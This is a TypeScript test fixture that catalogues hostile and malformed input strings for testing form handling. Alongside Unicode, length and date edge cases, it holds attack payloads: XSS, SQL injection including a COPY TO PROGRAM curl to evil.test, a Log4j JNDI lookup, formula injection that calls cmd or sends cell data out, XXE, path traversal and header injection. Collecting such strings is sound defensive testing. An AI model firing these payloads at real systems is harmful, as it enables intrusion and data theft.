/** Something that somebody, or something, types into a field. */
export interface HostileText {
  name: string
  text: string
}

const named = (kind: string, texts: Readonly<Record<string, string>>): HostileText[] =>
  Object.entries(texts).map(([name, text]) => ({ name: `${kind}: ${name}`, text }))

const CONTROLS = named('control', {
  NUL: 'a\0b',
  'NUL alone': '\0',
  'NUL at the end': 'Ana\0',
  backspace: 'Ana\b\b\bBen',
  bell: 'Ana\u0007',
  escape: '\u001b[31mAna\u001b[0m',
  delete: 'Ana\u007f',
  'C1 next line': 'Ana\u0085Ben',
  'C1 string terminator': 'Ana\u009c',
  'vertical tab': 'Ana\u000bBen',
  'form feed': 'Ana\u000cBen',
  'line separator': 'Ana\u2028Ben',
  'paragraph separator': 'Ana\u2029Ben',
  'byte order mark': '\ufeffAna',
  'interlinear annotation': '\ufff9Ana\ufffaBen\ufffb',
  'object replacement': '\ufffc',
  noncharacter: 'Ana\uffff',
  'noncharacter of a higher plane': 'Ana\u{1fffe}',
  'private use': '\ue000\u{100000}',
})

const SURROGATES = named('surrogate', {
  'high alone': 'Ana\ud83d',
  'low alone': 'Ana\ude00',
  swapped: '\ude00\ud83d',
  'high before a letter': '\ud800a',
  'two high': '\ud83d\ud83d\ude00',
})

const DIRECTION = named('direction', {
  'right-to-left override': 'Ana \u202egnp.exe',
  'left-to-right override': '\u202dAna',
  embedding: '\u202bAna',
  'isolate that is not closed': '\u2067Ana',
  'mark alone': '\u200f',
  'Arabic letter mark': '\u061cAna',
  'pop without a push': 'Ana\u202c\u2069',
  'two hundred of them': '\u202e'.repeat(200),
})

const INVISIBLE = named('invisible', {
  'zero width space': '\u200b\u200b\u200b',
  'zero width joiner': '\u200d',
  'zero width no-break space within': 'A\ufeffn\ufeffa',
  'word joiner': '\u2060',
  'soft hyphen': '\u00ad',
  'Hangul filler': '\u3164',
  'braille blank': '\u2800',
  'variation selectors': `A${'\ufe0f'.repeat(50)}`,
  'tag characters': 'Ana\u{e0041}\u{e0042}\u{e007f}',
  'Mongolian vowel separator': '\u180e',
  'no-break space only': '\u00a0',
  'ideographic space only': '\u3000',
  'all spaces': ' \t\u2003\u2009\u205f ',
})

const SHAPES = named('shape', {
  'a hundred combining marks': `Z${'\u0335\u0322\u0300'.repeat(33)}`,
  'a combining mark alone': '\u0301',
  'ligature that grows when folded': '\ufdfa'.repeat(50),
  'case that grows': '\u0130\u00df\ufb03'.repeat(30),
  'a family of emoji': '👨‍👩‍👧‍👦',
  'flags cut in the middle': '🇨🇭🇨',
  'mathematical letters': '𝐀𝐧𝐚 𝓑𝓮𝓷',
  'full width': 'Ａｎａ　Ｂｅｎ',
  'Cyrillic look-alike': 'Аnа Веn',
  'Greek question mark': 'Ana\u037e',
  decomposed: 'E\u0301lodie',
  'right-to-left name': 'محمد عبد الرحمن',
  'cuneiform of the fourth byte': '𒀀𒀀',
})

const LENGTHS = named('length', {
  'one more than a name may have': 'a'.repeat(101),
  '201': 'b'.repeat(201),
  '2,001': 'c'.repeat(2_001),
  '10,000 words': 'word '.repeat(10_000),
  '100,000 letters': 'd'.repeat(100_000),
  '30,000 of three bytes': '語'.repeat(30_000),
  '1,001 of four bytes': '😀'.repeat(1_001),
  '20,000 line breaks': '\n'.repeat(20_000),
  'many open brackets': '('.repeat(5_000),
})

const MARKUP = named('markup', {
  script: '<script>alert(1)</script>',
  'script in an attribute': '"><img src=x onerror=alert(1)>',
  'single quotes': "' onmouseover='alert(1)",
  svg: '<svg/onload=alert(1)>',
  'broken tag': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'closing textarea': '</textarea><script>alert(1)</script>',
  'closing title': '</title><script>alert(1)</script>',
  comment: '--><script>alert(1)</script><!--',
  CDATA: ']]><script>alert(1)</script>',
  entity: '&lt;script&gt;&#60;b&#62;&amp;amp;',
  'javascript address': 'javascript:alert(1)',
  'data address': 'data:text/html,<script>alert(1)</script>',
  'meta refresh': '<meta http-equiv=refresh content=0;url=//evil.test>',
  base: '<base href=//evil.test>',
  style: '<style>@import "//evil.test";</style>',
  'form action': '<form action=//evil.test><button>',
  'JSON in script': '</script><script type="application/ld+json">{"@type":"Event"}</script>',
  'unclosed quote': '"',
  backtick: '`${alert(1)}`',
  markdown: '[click](javascript:alert(1)) ![x](//evil.test/x.png)',
})

const TYPESETTING = named('typesetting', {
  'Typst code': '#read("/etc/passwd")',
  'Typst expression': '#{let x = 1; while true {}}',
  'Typst raw': '```typst #import "@preview/x:1.0.0"```',
  'Typst label': '<ana> @ana $x^2$ *b* _i_',
  'LaTeX input': '\\input{/etc/passwd}\\write18{id}',
  PostScript: '%!PS (/etc/passwd) run',
  'PDF action': '/JS (app.alert(1)) /AA << /O >>',
})

const CALENDARS = named('calendar', {
  'new property': 'Ana\r\nATTENDEE:mailto:evil@evil.test',
  'end of event': 'Ana\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Evil',
  'folded line': 'Ana\r\n ATTACH:file:///etc/passwd',
  semicolons: 'Ana;CN="x":,\\n',
  'escaped newline': 'Ana\\nEND:VCALENDAR',
})

const HEADERS = named('header', {
  'new header': 'Ana\r\nBcc: evil@evil.test',
  'line feed': 'Ana\nBcc: evil@evil.test',
  'carriage return': 'Ana\rBcc: evil@evil.test',
  'end of headers': 'Ana\r\n\r\n<h1>Evil</h1>',
  'encoded line break': 'Ana%0d%0aBcc:evil@evil.test',
  'set cookie': 'Ana\r\nSet-Cookie: plenary-sign-in=x',
  'MIME word': '=?utf-8?B?QW5hDQpCY2M6IGV2aWw=?=',
  'dot alone on a line': 'Ana\r\n.\r\nMAIL FROM:<evil@evil.test>',
  'angle address': 'Ana <evil@evil.test>, Ben',
})

const QUERIES = named('query', {
  'quote and or': "' OR '1'='1",
  'drop table': "Robert'); DROP TABLE registration;--",
  union: "' UNION SELECT email FROM identity--",
  'dollar quotes': '$$; SELECT pg_sleep(10); $$',
  placeholder: '$1 $2 :name ?',
  'copy program': "'; COPY identity TO PROGRAM 'curl evil.test'--",
  sleep: "'||pg_sleep(10)||'",
  'backslash quote': "\\' OR 1=1--",
  'like wildcards': '%_%_%_%_%_%',
  'many wildcards': '%'.repeat(500),
  'text search': "a & (b | !c) <-> 'd':*",
  'text search unbalanced': "((('&|!:*",
  'regular expression': '(a+)+$',
  'regular expression that explodes': `${'a'.repeat(60)}!`,
  'JSON path': '$.**{1 to 1000}',
  Mongo: '{"$gt": ""}',
})

const FORMULAS = named('formula', {
  equals: '=1+1',
  command: "=cmd|' /C calc'!A0",
  hyperlink: '=HYPERLINK("http://evil.test?x="&A1,"Click")',
  plus: '+1+1',
  minus: '-2+3+cmd|x',
  at: '@SUM(1,2)',
  tab: '\t=1+1',
  'carriage return': '\r=1+1',
  'full-width equals': '＝1+1',
  'import of data': '=IMPORTXML("http://evil.test","//a")',
  'dynamic data exchange': '=DDE("cmd";"/C calc";"x")',
  'quotes and separators': '";=1+1,\n',
})

const TEMPLATES = named('template', {
  mustache: '{{constructor.constructor("return process")()}}',
  interpolation: '{{count}} {{t}} $t(errors:email.missing)',
  erb: '<%= 7*7 %>',
  jinja: "{{ ''.__class__.__mro__ }}",
  dollar: '${7*7} #{7*7} *{7*7}',
  log4j: '${jndi:ldap://evil.test/a}',
  shell: '$(id) `id` ; id | id && id',
  'format string': '%s%s%s%n %x %p',
  'XML entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  'XML bomb': '<!DOCTYPE l [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
})

const NAMES = named('name of the language', {
  proto: '__proto__',
  constructor: 'constructor',
  prototype: 'prototype',
  toString: 'toString',
  hasOwnProperty: 'hasOwnProperty',
  valueOf: 'valueOf',
  undefined: 'undefined',
  null: 'null',
  true: 'true',
  NaN: 'NaN',
  'object Object': '[object Object]',
  then: 'then',
})

const NUMBERS = named('number', {
  enormous: '9'.repeat(400),
  exponent: '1e309',
  'minus zero': '-0',
  infinity: 'Infinity',
  hexadecimal: '0x7fffffff',
  'more than an integer': '2147483648',
  'more than a bigint': '9223372036854775808',
  'less than a bigint': '-9223372036854775809',
  'unsafe integer': '9007199254740993',
  'with separators': '1,234.567,89',
  'Arabic digits': '١٢٣٤٥٦٧٨',
  fraction: '½',
  'many decimals': `0.${'1'.repeat(2_000)}`,
  octal: '0o17',
  'leading zeros': '0'.repeat(2_000),
})

const DATES = named('date', {
  'thirtieth of February': '2022-02-30',
  'month thirteen': '2022-13-01',
  'day zero': '2022-10-00',
  'year zero': '0000-01-01',
  'year of five digits': '12022-10-18',
  'year with sign': '-271821-04-19',
  'past the end of time': '+275760-09-14T00:00:00Z',
  'second sixty': '2022-10-18T23:59:60Z',
  'hour twenty-five': '2022-10-18T25:00:00Z',
  'unknown zone': '2022-10-18T10:00:00[Mars/Base]',
  'other calendar': '2022-10-18[u-ca=hebrew]',
  duration: 'P9999999999999999999Y',
  'negative duration': '-P1D',
})

const PATHS = named('path', {
  'parent folders': '../../../../etc/passwd',
  'parent folders of Windows': '..\\..\\windows\\win.ini',
  encoded: '..%2f..%2fetc%2fpasswd',
  'encoded twice': '..%252f..%252fetc%252fpasswd',
  absolute: '/etc/passwd',
  UNC: '\\\\evil.test\\share',
  'file address': 'file:///etc/passwd',
  'device of Windows': 'CON',
  'stream of Windows': 'a.txt::$DATA',
  'two slashes': '//evil.test',
  'slash and backslash': '/\\evil.test',
  'other scheme': 'https://evil.test/en',
  'address with a sign-in': 'https://plenary@evil.test',
})

const IDS = named('id', {
  'of nothing': '018f0000-0000-7000-8000-000000000000',
  'all zeros': '00000000-0000-0000-0000-000000000000',
  'upper case': '018F0000-0000-7000-8000-00000000000A',
  'with braces': '{018f0000-0000-7000-8000-000000000000}',
  'nearly one': '018f0000-0000-7000-8000-00000000000g',
  'a number': '1',
  'a row of the catalogue': 'pg_class',
  several: '018f0000-0000-7000-8000-000000000000,018f0000-0000-7000-8000-000000000001',
})

const ADDRESSES = named('address', {
  'no domain': 'ana@',
  'no name': '@example.org',
  'two signs': 'ana@@example.org',
  'line break': 'ana@example.org\r\nBcc: evil@evil.test',
  'quoted line break': '"a\r\nb"@example.org',
  'two addresses': 'ana@example.org,evil@evil.test',
  'name and address': 'Ana <ana@example.org>',
  'IDN look-alike': 'ana@exаmple.org',
  'mixed scripts': 'ana@еxample.org',
  'Punycode that decodes to nothing': 'ana@xn--a.org',
  'IP address': 'ana@[127.0.0.1]',
  localhost: 'ana@localhost',
  comment: 'ana(comment)@example.org',
  percent: 'ana%evil.test@example.org',
  'bang path': 'evil.test!ana@example.org',
  'long local part': `${'a'.repeat(65)}@example.org`,
  'long domain': `ana@${'a.'.repeat(130)}org`,
  spaces: 'a na@exam ple.org',
  dots: '.ana..b.@example.org',
  'full-width sign': 'ana＠example.org',
  'header in the local part': '"Bcc: evil"@example.org',
})

/** At least 200 things that people and programs type, by what is wrong or odd with them. */
export const TEXTS: readonly HostileText[] = [
  ...[...CONTROLS, ...SURROGATES, ...DIRECTION, ...INVISIBLE, ...SHAPES, ...LENGTHS],
  ...[...MARKUP, ...TYPESETTING, ...CALENDARS, ...HEADERS, ...QUERIES, ...FORMULAS, ...TEMPLATES],
  ...[...NAMES, ...NUMBERS, ...DATES, ...PATHS, ...IDS, ...ADDRESSES],
]

/** What an address must never be taken for. */
export const BAD_ADDRESSES = ADDRESSES

/** What must not come back from any page as it was typed: it would be part of the page. */
export const ACTIVE = MARKUP.filter(({ text }) => /<[a-z!/]/i.test(text))
